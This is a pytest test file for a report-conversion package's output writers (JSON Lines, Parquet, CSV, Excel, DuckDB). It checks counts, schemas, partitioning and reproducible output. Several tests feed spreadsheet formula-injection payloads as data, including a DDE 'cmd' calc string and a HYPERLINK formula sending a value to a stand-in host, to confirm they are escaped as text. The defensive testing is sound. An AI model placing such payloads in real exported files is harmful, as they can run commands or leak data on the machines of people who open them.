"""Every output opens in the programs that people use for it, and says what the reports say."""

from __future__ import annotations

import csv
import gzip
import json
import sys
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pandas as pd
import polars as pl
import pyarrow.parquet as pq
import pytest
import zstandard
from pyarrow.dataset import partitioning

import govreport
from govreport.batch import Settings, convert, sink_duckdb
from govreport.batch.arrow import REPORT_SCHEMA
from govreport.batch.schema import TABLES, headers, table_columns
from govreport.batch.sink_csv import csv_paths
from govreport.batch.sinks import choose
from govreport.errors import DependencyError


@pytest.fixture(scope="module")
def inputs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """All fixtures and a page that cannot be read."""
    folder = tmp_path_factory.mktemp("sinks")
    for number, source in enumerate(sorted((Path(__file__).parents[2] / "fixtures").glob("*/input.*"))):
        (folder / f"{number:03d}-{source.parent.name}{source.suffix}").write_bytes(source.read_bytes())
    (folder / "zzz.html").write_bytes(b"%PDF-1.4")
    return folder


@pytest.fixture(scope="module")
def reports(inputs: Path) -> list[govreport.Report | None]:
    return [result.report for result in govreport.parse_many(sorted(inputs.iterdir()))]


def made(inputs: Path, output: Path | str, **settings: Any) -> None:
    convert([inputs], output, settings=Settings(**settings))


def numbers(reports: list[govreport.Report | None]) -> dict[str, int]:
    """Rows of every table."""
    read = [report for report in reports if report is not None]
    figures = [list(report.figures) for report in read]
    for group in figures:
        for figure in group:
            group.extend(figure.parts)
    return {
        "reports": len(reports),
        "sections": sum(len(list(report.walk())) for report in read),
        "statistics": sum(len(report.statistics or ()) for report in read),
        "figures": sum(map(len, figures)),
        "findings": sum(len(report.findings) for report in read),
    }


@pytest.mark.parametrize("suffix", [".jsonl", ".jsonl.gz", ".jsonl.zst"])
def test_json_lines(inputs: Path, reports: list[govreport.Report | None], tmp_path: Path, suffix: str) -> None:
    output = tmp_path / f"a{suffix}"
    made(inputs, output)
    if suffix.endswith(".gz"):
        data = gzip.decompress(output.read_bytes())
    elif suffix.endswith(".zst"):
        data = zstandard.ZstdDecompressor().stream_reader(output.read_bytes(), read_across_frames=True).read()
    else:
        data = output.read_bytes()
    found = [govreport.Report.model_validate(json.loads(line)["report"]) for line in data.splitlines()]
    assert found == [report for report in reports if report is not None]


def test_parquet_in_three_readers(inputs: Path, reports: list[govreport.Report | None], tmp_path: Path) -> None:
    output = tmp_path / "a.parquet"
    made(inputs, output)
    titles = [report and report.title for report in reports]
    table = pq.read_table(output)
    assert table.schema.equals(REPORT_SCHEMA)
    assert table.schema.metadata == REPORT_SCHEMA.metadata
    assert table.column("title").to_pylist() == titles
    frame = pd.read_parquet(output)
    assert [title if isinstance(title, str) else None for title in frame["title"]] == titles
    polars = pl.read_parquet(output)
    assert polars["title"].to_list() == titles
    assert (
        polars.explode("statistics").select(pl.col("statistics").struct.field("code")).drop_nulls().height
        == (numbers(reports)["statistics"])
    )
    with duckdb.connect() as database:
        query = f"SELECT count(*) FROM (SELECT unnest(sections) FROM '{output}')"
        assert database.execute(query).fetchone() == (numbers(reports)["sections"],)


@pytest.mark.parametrize("by", [None, "year", "status"])
def test_parquet_as_a_folder(
    inputs: Path, reports: list[govreport.Report | None], tmp_path: Path, by: str | None
) -> None:
    output = f"{tmp_path / 'a.parquet'}/" if by is None else tmp_path / "a.parquet"
    for _ in range(2):  # the second run replaces the folder of the first
        made(inputs, output, partition_by=by)
    # Without the argument pandas asks pyarrow for categories, which it cannot make of a partition without a value.
    frame = pd.read_parquet(tmp_path / "a.parquet", partitioning=partitioning(flavor="hive"))
    assert len(frame) == len(reports)
    years = [None if report is None else report.year for report in reports]
    with duckdb.connect() as database:
        query = f"SELECT year, count(*) FROM read_parquet('{tmp_path}/a.parquet/**/*.parquet') GROUP BY ALL"
        assert dict(database.execute(query).fetchall()) == {year: years.count(year) for year in set(years)}
    folders = sorted(path.name for path in (tmp_path / "a.parquet").iterdir())
    assert (
        folders
        == {
            None: ["part-00000.parquet"],
            "status": ["status=failed", "status=ok"],
            "year": sorted(f"year={year or '__HIVE_DEFAULT_PARTITION__'}" for year in set(years)),
        }[by]
    )


def test_a_folder_with_other_files_is_not_replaced(inputs: Path, tmp_path: Path) -> None:
    (tmp_path / "a.parquet").mkdir()
    (tmp_path / "a.parquet" / "thesis.docx").write_text("years of work")
    with pytest.raises(OSError, match="other files"):
        made(inputs, f"{tmp_path}/a.parquet/")
    assert (tmp_path / "a.parquet" / "thesis.docx").exists()


@pytest.mark.parametrize("language", ["en", "zh"])
def test_csv(inputs: Path, reports: list[govreport.Report | None], tmp_path: Path, language: str) -> None:
    made(inputs, tmp_path / "a.csv", headers=language)
    expected = numbers(reports)
    for name, path in csv_paths(tmp_path / "a.csv").items():
        assert path.read_bytes().startswith(b"\xef\xbb\xbf")
        frame = pd.read_csv(path, encoding="utf-8-sig", low_memory=False)
        assert (name, len(frame)) == (name, expected[name])
        assert list(frame.columns) == headers(name, language)
        assert pl.read_csv(path, infer_schema=False).height == expected[name]
    frame = pd.read_csv(tmp_path / "a.csv")
    title = "标题" if language == "zh" else "title"
    assert [None if pd.isna(value) else value for value in frame[title]] == [
        report and report.title for report in reports
    ]


def test_tables_are_joined_by_their_keys(inputs: Path, reports: list[govreport.Report | None], tmp_path: Path) -> None:
    made(inputs, tmp_path / "a.csv")
    statistics = pd.read_csv(tmp_path / "a.statistics.csv", low_memory=False)
    joined = statistics.merge(pd.read_csv(tmp_path / "a.csv"), on=["document", "id"], validate="many_to_one")
    assert len(joined) == len(statistics) > 100
    for document, group in joined.groupby("document"):
        report = reports[int(str(document))]
        assert report is not None
        assert report.statistics is not None
        assert group["form"].astype(str).unique().tolist() == [report.statistics.form]
        assert group["code"].tolist() == [cell.code for cell in report.statistics.cells]


@pytest.mark.parametrize("language", ["en", "zh"])
def test_excel(inputs: Path, reports: list[govreport.Report | None], tmp_path: Path, language: str) -> None:
    made(inputs, tmp_path / "a.xlsx", headers=language)
    book = openpyxl.load_workbook(tmp_path / "a.xlsx", read_only=True)
    assert book.sheetnames == (["报告", "章节", "统计", "数字", "问题"] if language == "zh" else list(TABLES))
    for name, sheet in zip(TABLES, book.worksheets, strict=True):
        rows = list(sheet.iter_rows(values_only=True))
        assert list(rows[0]) == headers(name, language)
        assert len(rows) - 1 == numbers(reports)[name]
        if name == "reports":
            at = headers(name).index("title")
            assert [row[at] for row in rows[1:]] == [report and report.title for report in reports]
    book.close()


def test_csv_takes_no_text_for_a_formula(tmp_path: Path) -> None:
    pages = tmp_path / "in"
    pages.mkdir()
    for number, text in enumerate(("=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3", "＝1+1", "-3", "普通标题")):
        (pages / f"{number}.html").write_text(f"<title>{text}</title><h1>{text}</h1><p>正文。</p>", encoding="utf-8")
    convert([str(pages)], tmp_path / "out.csv")
    data = (tmp_path / "out.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # or Excel shows no Chinese
    cells = [cell for row in csv.reader(data.decode("utf-8-sig").splitlines()) for cell in row]
    assert {"'=1+1", "'@SUM(A1)", "'+cmd|' /C calc'!A0", "'-2+3", "'＝1+1", "普通标题"} <= set(cells)
    assert [cell for cell in cells if cell[:1] in tuple("=+-@＝＋－＠") and cell not in ("-3", "-", "")] == []


@pytest.mark.parametrize("sign", ["=", "+", "-", "@"])
def test_no_spreadsheet_calculates_what_a_page_says(sign: str, tmp_path: Path) -> None:
    """One page whose title, heading, text and table begin like formulas, through every output a spreadsheet opens."""
    evil = f'{sign}HYPERLINK("https://a.test?"&本地数)'
    rows = [("统计指标", "单位", "统计数"), ("（二）申请办结数", "件", "12"), (evil, "件", "5")]
    cells = "".join("<tr>" + "".join(f"<td>{cell}</td>" for cell in row) + "</tr>" for row in rows)
    prose = f"<p>一、总体情况</p><p>{evil}</p><p>{sign}1公开信息3条。</p><p>二、数据</p>"
    page = f"<html><head><title>{evil}</title></head><body><h1>{evil}</h1>{prose}<table>{cells}</table></body></html>"
    (tmp_path / "a.html").write_text(page, encoding="utf-8")
    report = govreport.parse(page)
    assert report.title == evil
    assert report.statistics is not None
    assert [row.label for row in report.statistics.extra] == [evil]
    made(tmp_path / "a.html", tmp_path / "a.xlsx")
    report.statistics.to_xlsx(tmp_path / "statistics.xlsx")
    for name, least in (("a.xlsx", 2), ("statistics.xlsx", 1)):
        book = openpyxl.load_workbook(tmp_path / name)
        found = [
            cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None
        ]
        suspect = [cell for cell in found if isinstance(cell.value, str) and evil in cell.value]
        assert len(suspect) >= least
        assert {cell.data_type for cell in suspect} == {"s"}
        assert [cell.hyperlink for cell in found if cell.hyperlink is not None] == []
        # the form's workbook adds up the cells of the form, and nothing else is calculated
        ours = [cell.value for cell in found if cell.data_type == "f"]
        assert all(value.startswith("=SUM(") for value in ours)
        assert not (ours and name == "a.xlsx")
    made(tmp_path / "a.html", tmp_path / "a.csv")
    texts = []
    for path in csv_paths(tmp_path / "a.csv").values():
        with path.open(encoding="utf-8-sig", newline="") as file:
            texts += [cell for row in csv.reader(file) for cell in row]
    assert "'" + evil in texts
    assert [text for text in texts if text.startswith(sign) and text != sign] == []


def test_excel_takes_no_text_for_a_formula(tmp_path: Path) -> None:
    (tmp_path / "a.html").write_text(
        '<title>=HYPERLINK("http://a.cn")</title><h1>=1+1</h1><p>甲\x0b乙</p>' + "长" * 40_000
    )
    made(tmp_path / "a.html", tmp_path / "a.xlsx")
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n", "b", "d"}
    assert any(cell.value == "=1+1" for cell in cells)


def test_duckdb(inputs: Path, reports: list[govreport.Report | None], tmp_path: Path) -> None:
    made(inputs, tmp_path / "a.duckdb")
    with duckdb.connect(str(tmp_path / "a.duckdb"), read_only=True) as database:
        for name, count in numbers(reports).items():
            assert database.execute(f"SELECT count(*) FROM {name}").fetchone() == (count,)
            described = [row[0] for row in database.execute(f"DESCRIBE {name}").fetchall()]
            assert described == [column.name for column in table_columns(name)]
        yearly = [r for r in reports if r is not None and r.kind == "annual_report" and r.statistics]
        panel = database.execute("SELECT count(*) FROM panel").fetchone()
        assert panel == (sum(len(report.statistics or ()) for report in yearly),)
        received = dict(
            database.execute("SELECT document, received FROM requests WHERE received IS NOT NULL").fetchall()
        )
        assert received
        for document, value in received.items():
            report = reports[document]
            assert report is not None
            assert report.statistics is not None
            assert value in {
                float(c.value)
                for c in report.statistics.cells
                if c.measure == "requests_received" and c.value is not None
            }
        assert database.execute("SELECT id, error FROM failed").fetchall()[-1][1] == "UnsupportedMediaError"
        whole = database.execute("SELECT report_json FROM documents WHERE document = 0").fetchone()
        assert whole is not None
        assert govreport.Report.model_validate_json(whole[0]) == reports[0]
        assert database.execute("SELECT count(*) FROM sums_that_fail").fetchone() == (
            sum(finding.difference not in (None, 0) for report in reports if report for finding in report.findings),
        )


def test_the_same_bytes_every_time(inputs: Path, tmp_path: Path) -> None:
    for name in ("a.jsonl.gz", "a.jsonl.zst", "a.parquet", "a.csv", "a.xlsx"):
        found = []
        for workers in (None, 2) if name.endswith(("gz", "parquet")) else (None, None):
            made(inputs, tmp_path / name, workers=workers)
            found.append((tmp_path / name).read_bytes())
        assert found[0] == found[1], name


WRONG = [
    ("a.jsonl/", {}, "only Parquet"),
    ("a.csv", {"partition_by": "year"}, "only Parquet"),
    ("a.parquet", {"partition_by": "title"}, "partitioned by"),
    ("a.parquet", {"headers": "zh"}, "Chinese headings"),
    ("a.csv", {"headers": "fr"}, "en or zh"),
    ("a.txt", {}, r"a\.txt: the kind of output is told by its ending, one of \.jsonl .* \.duckdb \.parquet/$"),
    ("jsonl", {}, "told by its ending"),
]


@pytest.mark.parametrize(("name", "options", "said"), WRONG)
def test_options_that_do_not_fit(name: str, options: dict[str, str], said: str) -> None:
    with pytest.raises(ValueError, match=said):
        choose(name, **options)


MISSING = [
    ("a.parquet", "pyarrow", "arrow"),
    ("a.csv", "pyarrow", "arrow"),
    ("a.xlsx", "xlsxwriter", "excel"),
    ("a.duckdb", "duckdb", "duckdb"),
    ("a.jsonl.zst", "zstandard", "zstd"),
]


@pytest.mark.parametrize(("name", "module", "extra"), MISSING)
def test_a_missing_extra_is_named(
    name: str, module: str, extra: str, tmp_path: Path, inputs: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, module, None)
    with pytest.raises(DependencyError, match=rf"pip install 'govreport\[{extra}\]'"):
        made(inputs, tmp_path / name)
    assert list(tmp_path.iterdir()) == []


def test_duckdb_gets_more_memory_when_it_asks_for_it_and_writes_the_same_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A few hundred pages of a hundred kilobytes are more JSON than 64 MB hold; the run must not fail at its end."""
    monkeypatch.chdir(tmp_path)
    Path("in").mkdir()
    for number in range(3):
        Path("in", f"{number}.html").write_text(f"<h1>关于供水的通知</h1><p>供水{number}天。</p>", encoding="utf-8")
    convert(["in"], "whole.duckdb")
    fill, given = sink_duckdb._fill, []

    def full(connection: Any, sink: Any, parts: Any) -> None:
        given.append(connection.execute("SELECT current_setting('memory_limit')").fetchone()[0])
        fill(connection, sink, parts)
        if len(given) < 3:
            kind = duckdb.OutOfMemoryException if len(given) == 1 else duckdb.TransactionException
            raise kind("failed to pin block of size 256.0 KiB (60.8 MiB/61.0 MiB used)")

    monkeypatch.setattr(sink_duckdb, "_fill", full)
    convert(["in"], "out.duckdb")
    assert len(set(given)) == 3
    assert Path("out.duckdb").read_bytes() == Path("whole.duckdb").read_bytes()
    monkeypatch.setattr(sink_duckdb, "MEMORY", ("64MB",))
    given.clear()
    with pytest.raises(OSError, match="failed to pin block"):
        convert(["in"], "more.duckdb")
    assert not Path("more.duckdb").exists()
